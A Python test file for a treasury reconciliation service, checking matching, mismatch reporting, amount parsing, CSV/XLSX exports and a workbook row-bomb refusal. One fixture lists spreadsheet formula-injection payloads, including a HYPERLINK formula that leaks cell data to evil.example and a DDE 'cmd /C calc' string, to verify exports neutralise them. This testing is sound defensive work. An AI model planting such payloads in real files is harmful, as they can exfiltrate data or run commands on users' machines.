"""Reconciliation against the treasury's file: matches, a payment missing from the
treasury, a treasury line the ledger does not know, an amount mismatch, a date mismatch;
the report is kept, recognised on re-upload, and downloadable as CSV and XLSX."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from adapters.tables import MAX_ROWS
from domain.errors import BadRows
from service.intake import reverse_json
from service.ledger import Ledger
from service.reconcile import reconcile_file, summary
from service.reconciliation_files import COLUMNS, report_csv, report_xlsx
from service.treasury_file import read_treasury_file
from tests import builders as b
from tests.conftest import PII_KEY
from tests.surveys import cli
from tests.workbooks import row_bomb


def paid_bases(ledger: Ledger, count: int) -> list[tuple[str, str]]:
    b.appropriate(ledger, amount="1000000.00", division="430000", on="2018-01-01")
    paid = []
    for n in range(count):
        base = b.organisation(ledger)
        b.post(ledger, "BaseDesignated", by="admin", org_id=base, designated_on="2018-01-01")
        payment = b.pay(ledger, "R16", base, f"2018-06-{n + 1:02d}")
        paid.append((payment.payment_id, base))
    return paid


def treasury_file(rows: list[tuple[str, str, str, str]]) -> bytes:
    lines = ["日期,收款人,金额,凭证号", *(",".join(row) for row in rows)]
    return "\n".join(lines).encode("gbk")


def test_reconciliation_reports_each_kind_of_difference(ledger: Ledger) -> None:
    (p1, b1), (_p2, b2), (p3, b3), (p4, b4), (p5, b5) = paid_bases(ledger, 5)
    reverse_json(
        ledger,
        p5,
        {"reversal_id": "rv-5", "reason": "wrong base", "reversed_on": "2018-06-20"},
        "finance",
    )
    content = treasury_file(
        [
            ("2018-06-01", b1, "100000.00", p1),  # matched by reference
            ("2018-06-02", b2, "100000.00", ""),  # matched by payee, amount and date
            ("2018-06-03", b3, "90000.00", p3),  # amount mismatch
            ("2018-06-09", b4, "100000.00", ""),  # date mismatch
            ("2018-06-05", b5, "100000.00", p5),  # matched
            ("2018-06-20", b5, "-100000.00", "rv-5"),  # the reversal's refund, matched
            ("2018-06-07", "stranger", "5000.00", "X-1"),  # unknown to the ledger
        ]
    )
    report, replayed = reconcile_file(
        ledger, content, "june.csv", "employment_fund", "430000", "2018-06", "finance"
    )
    assert not replayed
    totals = summary(report)["totals"]
    assert totals["matched"] == 4
    assert totals["amount_mismatch"] == 1
    assert totals["date_mismatch"] == 1
    assert totals["unmatched_treasury"] == 1
    assert totals["unmatched_ledger"] == 0
    assert totals["ledger_total"] == "400000.00"
    assert totals["treasury_total"] == "395000.00"
    statuses = {line["ledger_reference"]: line["status"] for line in summary(report)["lines"]}
    assert statuses[p3] == "amount_mismatch"
    assert statuses[p4] == "date_mismatch"


def test_a_payment_missing_from_the_treasury_file_is_reported(ledger: Ledger) -> None:
    (p1, b1), (p2, _) = paid_bases(ledger, 2)
    content = treasury_file([("2018-06-01", b1, "100000.00", p1)])
    report, _ = reconcile_file(
        ledger, content, "f.csv", "employment_fund", "430000", "2018", "finance"
    )
    missing = [line for line in summary(report)["lines"] if line["status"] == "unmatched_ledger"]
    assert [line["ledger_reference"] for line in missing] == [p2]


@pytest.mark.both_stores
def test_a_reupload_of_the_same_file_is_recognised_and_exports_open(ledger: Ledger) -> None:
    ((p1, b1),) = paid_bases(ledger, 1)
    content = treasury_file([("2018-06-01", b1, "100000.00", p1)])
    first, _ = reconcile_file(
        ledger, content, "f.csv", "employment_fund", "430000", "2018-06", "finance"
    )
    again, replayed = reconcile_file(
        ledger, content, "f.csv", "employment_fund", "430000", "2018-06", "finance"
    )
    assert replayed and again.id == first.id
    assert report_csv(first, "en").decode("utf-8-sig").splitlines()[1].startswith("matched,voucher")
    assert report_csv(first).decode("utf-8-sig").splitlines()[1].startswith("已匹配,凭证号")
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(report_xlsx(first, "en")))
    assert book["reconciliation"]["A2"].value == "matched"
    assert book["totals"]["A1"].value == "matched"
    assert load_workbook(io.BytesIO(report_xlsx(first)))["汇总"]["A1"].value == "已匹配"


def one_line(amount: str) -> bytes:
    return f'日期,收款人,金额,凭证号\n2018-06-01,payee-1,"{amount}",X-1\n'.encode()


@pytest.mark.parametrize(
    ("text", "amount"),
    [
        ("1,234.56", "1234.56"),
        ("-50.00", "-50.00"),
        ("100", "100.00"),
        ("0.5", "0.50"),
        ("999,999,999,999.99", "999999999999.99"),
    ],
)
def test_treasury_amounts_read_plain_decimals_with_thousands_separators(
    text: str, amount: str
) -> None:
    (line,) = read_treasury_file(one_line(text), PII_KEY)
    assert line.amount == Decimal(amount) and line.amount.as_tuple().exponent == -2


@pytest.mark.parametrize(
    "text",
    [
        "1e30",  # once a 500: quantize overflowed
        "1E3",
        "NaN",
        "Infinity",
        "-inf",
        "１００.００",  # full-width digits
        "١٠٠",  # Arabic-Indic digits
        "1000000000000.00",  # 13 integer digits
        "1.234",
        "+50.00",
        "--50",
        "1,23.00",
        "12,34,567.00",
        ",100",
        "100.",
        ".50",
        "1 000.00",
        "",
    ],
)
def test_a_treasury_amount_that_is_not_a_plain_decimal_is_refused_naming_line_and_field(
    text: str,
) -> None:
    with pytest.raises(BadRows) as refused:
        read_treasury_file(one_line(text), PII_KEY)
    assert [(e["row"], e["column"]) for e in refused.value.errors] == [(2, "金额")]


def test_a_treasury_line_without_a_payee_or_amount_cell_is_bad_input_not_a_crash() -> None:
    with pytest.raises(BadRows) as refused:
        read_treasury_file("日期,收款人,金额\n2018-06-01\n".encode(), PII_KEY)
    assert refused.value.errors[0]["row"] == 2


HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]


def test_report_exports_write_hostile_text_quoted_and_amounts_and_dates_as_numbers(
    ledger: Ledger,
) -> None:
    ((p1, b1),) = paid_bases(ledger, 1)
    out = io.StringIO()
    csv.writer(out).writerows(
        [
            ["日期", "收款人", "金额", "凭证号"],
            ["2018-06-01", b1, "100,000.00", p1],
            ["2018-06-02", "x", "999,999,999,999.99", "=1+1"],
            *(["2018-06-03", payee, "-50.00", ""] for payee in HOSTILE),
        ]
    )
    report, _ = reconcile_file(
        ledger, out.getvalue().encode(), "f.csv", "employment_fund", "430000", "2018", "finance"
    )

    en = {name: column.en for name, column in COLUMNS.items()}
    text = report_csv(report, "en").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    payees = {row[en["treasury_payee"]] for row in rows}
    assert {"'" + payee for payee in HOSTILE} <= payees and not payees & set(HOSTILE)
    assert {row[en["treasury_voucher"]] for row in rows} >= {"'=1+1"}
    assert {row[en["treasury_amount"]] for row in rows} == {
        "100000.00",
        "999999999999.99",
        "-50.00",
    }

    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(report_xlsx(report, "en")))
    sheet = book["reconciliation"]
    header = [cell.value for cell in sheet[1]]
    assert header == list(en.values())
    lines = [dict(zip(COLUMNS, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
    for line in lines:
        payee, amount, day = (
            line[k] for k in ("treasury_payee", "treasury_amount", "treasury_date")
        )
        assert payee.data_type == "s" and not str(payee.value).startswith(tuple("=+-@"))
        assert amount.data_type == "n" and amount.number_format == "#,##0.00"
        assert day.is_date and line["treasury_line"].data_type == "n"
    amounts = {Decimal(repr(line["treasury_amount"].value)) for line in lines}
    assert amounts == {Decimal("100000"), Decimal("999999999999.99"), Decimal("-50")}
    assert book["totals"]["A1"].value == "matched"
    treasury_total = {row[0].value: row[1] for row in book["totals"].iter_rows()}["treasury_total"]
    assert treasury_total.data_type == "n"
    assert Decimal(repr(treasury_total.value)) == Decimal("999999999999.99") + 100000 - 4 * 50
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


def test_the_cli_refuses_a_workbook_bomb_for_reconciliation_naming_the_row_bound(
    ledger: Ledger,
    database_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    b.appropriate(ledger, amount="1000.00", division="430000", on="2018-01-01")
    bomb = tmp_path / "treasury.xlsx"
    bomb.write_bytes(row_bomb(("日期", "收款人", "金额", "凭证号")))
    argv = ["reconcile", str(bomb), "--source", "employment_fund", "--division", "430000"]
    assert cli(database_url, monkeypatch, *argv, "--period", "2018") == 2
    assert f"more than {MAX_ROWS} rows" in capsys.readouterr().err
